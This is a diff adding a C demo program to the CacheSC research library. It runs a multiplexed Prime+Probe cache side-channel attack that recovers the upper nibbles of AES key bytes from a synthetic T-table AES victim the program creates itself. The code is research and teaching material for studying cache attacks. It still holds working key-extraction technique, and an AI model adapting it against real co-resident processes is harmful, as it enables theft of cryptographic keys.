@@ -0,0 +1,264 @@
+/*
+ * This file is part of the CacheSC library (https://github.com/Miro-H/CacheSC),
+ * which implements Prime+Probe attacks on virtually and physically indexed
+ * caches.
+ *
+ * Copyright (C) 2020  Miro Haller
+ *
+ * This program is free software: you can redistribute it and/or modify
+ * it under the terms of the GNU General Public License as published by
+ * the Free Software Foundation, either version 3 of the License, or
+ * (at your option) any later version.
+ *
+ * This program is distributed in the hope that it will be useful,
+ * but WITHOUT ANY WARRANTY; without even the implied warranty of
+ * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+ * GNU General Public License for more details.
+ *
+ * You should have received a copy of the GNU General Public License
+ * along with this program.  If not, see <https://www.gnu.org/licenses/>.
+ *
+ * Contact: miro.haller@alumni.ethz.ch
+ *
+ * Short description of this file:
+ * This file demonstrates multiplexed chosen-plaintext queries against the
+ * synthetic T-table AES. The classic one-round attack chooses one plaintext
+ * byte per encryption and reads the 16 sets of the table that this byte
+ * indexes. Since the bytes of different tables (Te0, ..., Te3) touch disjoint
+ * sets, the query scheduler packs one query per table into every encryption
+ * and decodes each answer from the shared probe vector. The attack runs until
+ * the upper nibble of every key byte reached the confidence target. With a
+ * batch size of 1, it answers one query per encryption for comparison.
+ */
+
+#include <math.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <time.h>
+#include <cachesc.h>
+
+
+/*
+ * Configure side-channel attack
+ */
+
+// Pin process to a CPU. To reduce noise, this CPU can be isolated.
+#define CPU_NUMBER 1
+
+// Cache line offset of the T-tables from a page
+#define VICTIM_LINE_OFFSET 0
+
+#define TARGET_CACHE L1
+
+// Answers of a byte between two checks of its confidence
+#define CHECK_INTERVAL 64
+
+// local functions
+void usage(const char *prog);
+void add_byte_query(query_sched *sched, aes_ttable_map *map, uint32_t byte);
+double get_byte_confidence(double *sum, double *sum_sq, uint64_t cnt,
+    uint8_t *best);
+
+int main(int argc, char **argv) {
+    int max_samples = -1, batch = AES_TTABLES;
+    uint32_t i, b, k, n, id, packed, done, correct;
+    uint8_t x;
+    struct timespec start, stop;
+
+    if (argc == 2 || argc == 3)
+        max_samples = atoi(argv[1]);
+    if (argc == 3)
+        batch = atoi(argv[2]);
+    if (max_samples <= 0 || batch <= 0)
+        usage(argv[0]);
+
+
+    /*
+     * Initial preparation
+     */
+    PRINT_LINE("Initial attacker preparation\n");
+    PRINT_LINE("Maximal number of encryptions: %d\n", max_samples);
+    PRINT_LINE("Queries per encryption: %d\n", batch);
+
+    set_seed();
+
+    cache_ctx *ctx      = get_cache_ctx(TARGET_CACHE);
+    cacheline *cache_ds = prepare_cache_ds(ctx);
+
+    time_type *res = (time_type *) calloc(ctx->sets, sizeof(time_type));
+    assert(res);
+
+    // Victim with a random key, the table sets are assumed to be known
+    leaky_victim *v = prepare_leaky_victim(LEAKY_AES_TTABLE, 0, VICTIM_LINE_OFFSET);
+    assert(v);
+
+    uint8_t key[AES_KEY_LEN], pt[AES_KEY_LEN], ct[AES_KEY_LEN];
+    gen_rand_bytes(key, AES_KEY_LEN);
+    set_leaky_victim_secret(v, key);
+
+    aes_ttable_map map;
+    void *tables[AES_TTABLES];
+    for (i = 0; i < AES_TTABLES; ++i)
+        tables[i] = get_leaky_aes_table(v, i);
+    get_aes_ttable_map(ctx, tables, &map);
+
+    // Probe time sums per (byte, key nibble candidate)
+    double sum[AES_KEY_LEN][AES_NIBBLES], sum_sq[AES_KEY_LEN][AES_NIBBLES];
+    uint64_t cnt[AES_KEY_LEN];
+    uint8_t key_hi[AES_KEY_LEN];
+    bool byte_done[AES_KEY_LEN];
+    time_type msrmts[AES_TTABLE_BLOCKS];
+
+    memset(sum, 0, sizeof(sum));
+    memset(sum_sq, 0, sizeof(sum_sq));
+    memset(cnt, 0, sizeof(cnt));
+    memset(key_hi, 0, sizeof(key_hi));
+    memset(byte_done, 0, sizeof(byte_done));
+
+    // One pending query per key byte at any time
+    query_sched *sched = prepare_query_sched(ctx, AES_KEY_LEN, AES_KEY_LEN,
+                                             AES_TTABLE_BLOCKS, batch);
+    for (b = 0; b < AES_KEY_LEN; ++b)
+        add_byte_query(sched, &map, b);
+
+    pin_to_cpu(CPU_NUMBER);
+
+    cacheline *curr_head = cache_ds;
+    cacheline *next_head;
+
+
+    /*
+     * Attack until all upper key nibbles are recovered or for "max_samples"
+     * encryptions
+     */
+    print_banner("Start multiplexed AES attack");
+
+    prepare_measurement();
+    clock_gettime(CLOCK_MONOTONIC, &start);
+
+    done = 0;
+    for (i = 0; i < max_samples && done < AES_KEY_LEN; ++i) {
+        // Bytes that no query fixes stay random
+        gen_rand_bytes(pt, AES_KEY_LEN);
+        packed = pack_sched_queries(sched, pt);
+
+        curr_head = prime(curr_head);
+        run_leaky_victim(v, pt, ct);
+        next_head = probe(TARGET_CACHE, curr_head);
+
+        get_msrmts_for_all_set(curr_head, res);
+        curr_head = next_head;
+
+        for (k = 0; k < packed; ++k) {
+            decode_sched_query(sched, k, res, &id, msrmts);
+            b = id / 256;
+            x = id % 256;
+
+            // Block n is accessed for key nibble candidate n ^ (x >> 4)
+            for (n = 0; n < AES_TTABLE_BLOCKS; ++n) {
+                sum[b][n ^ (x >> 4)]    += msrmts[n];
+                sum_sq[b][n ^ (x >> 4)] += (double) msrmts[n] * msrmts[n];
+            }
+            ++cnt[b];
+
+            if (cnt[b] >= AES_ATTACK_MIN_SAMPLES && !(cnt[b] % CHECK_INTERVAL)
+                && get_byte_confidence(sum[b], sum_sq[b], cnt[b], &key_hi[b])
+                   >= AES_ATTACK_CONFIDENCE)
+            {
+                byte_done[b] = true;
+                ++done;
+            }
+
+            if (!byte_done[b])
+                add_byte_query(sched, &map, b);
+        }
+    }
+
+    clock_gettime(CLOCK_MONOTONIC, &stop);
+
+    print_banner("Stop multiplexed AES attack");
+
+
+    /*
+     * Print output
+     */
+    print_query_sched(sched);
+
+    correct = 0;
+    PRINT_LINE("Key: ");
+    for (b = 0; b < AES_KEY_LEN; ++b) {
+        printf("%02x", key[b]);
+        correct += (key[b] >> 4) == key_hi[b];
+    }
+    putchar('\n');
+
+    PRINT_LINE("Recovered upper nibbles: %u/%u, correct: %u/%u\n", done,
+               AES_KEY_LEN, correct, AES_KEY_LEN);
+    PRINT_LINE("Encryptions: %u, time: %.3f s\n", i,
+               get_elapsed_sec(&start, &stop));
+
+
+    /*
+     * Cleanup
+     */
+    release_query_sched(sched);
+    release_leaky_victim(v);
+    free(res);
+    release_cache_ds(ctx, cache_ds);
+    release_cache_ctx(ctx);
+
+    return EXIT_SUCCESS;
+}
+
+void usage(const char *prog) {
+    fprintf(stderr, "Usage: %s <max encryptions> [queries per encryption]\n",
+            prog);
+    exit(EXIT_FAILURE);
+}
+
+/*
+ * Query a random value of a plaintext byte, answered by the sets of the table
+ * that the byte indexes in the first round
+ */
+void add_byte_query(query_sched *sched, aes_ttable_map *map, uint32_t byte) {
+    uint8_t input[AES_KEY_LEN], input_mask[AES_KEY_LEN];
+    bool queued;
+
+    memset(input_mask, 0, AES_KEY_LEN);
+    input[byte]         = rand() % 256;
+    input_mask[byte]    = 1;
+
+    queued = add_sched_query(sched, byte * 256 + input[byte], input, input_mask,
+                             map->sets[byte % AES_TTABLES], AES_TTABLE_BLOCKS);
+    assert(queued);
+}
+
+/*
+ * The accessed block is slow for the correct candidate in every answer. The
+ * confidence is the distance of the best to the second best candidate in
+ * standard deviations of their difference.
+ */
+double get_byte_confidence(double *sum, double *sum_sq, uint64_t cnt,
+    uint8_t *best)
+{
+    uint8_t c, second;
+    double mean[AES_NIBBLES], var[AES_NIBBLES];
+
+    *best = 0;
+    for (c = 0; c < AES_NIBBLES; ++c) {
+        mean[c] = sum[c] / cnt;
+        // Timings are integers, so assume at least the quantisation noise
+        var[c]  = (sum_sq[c] / cnt - mean[c] * mean[c] + 1.0 / 12) / cnt;
+
+        if (mean[c] > mean[*best])
+            *best = c;
+    }
+
+    second = !*best;
+    for (c = 0; c < AES_NIBBLES; ++c) {
+        if (c != *best && mean[c] > mean[second])
+            second = c;
+    }
+
+    return (mean[*best] - mean[second]) / sqrt(var[*best] + var[second]);
+}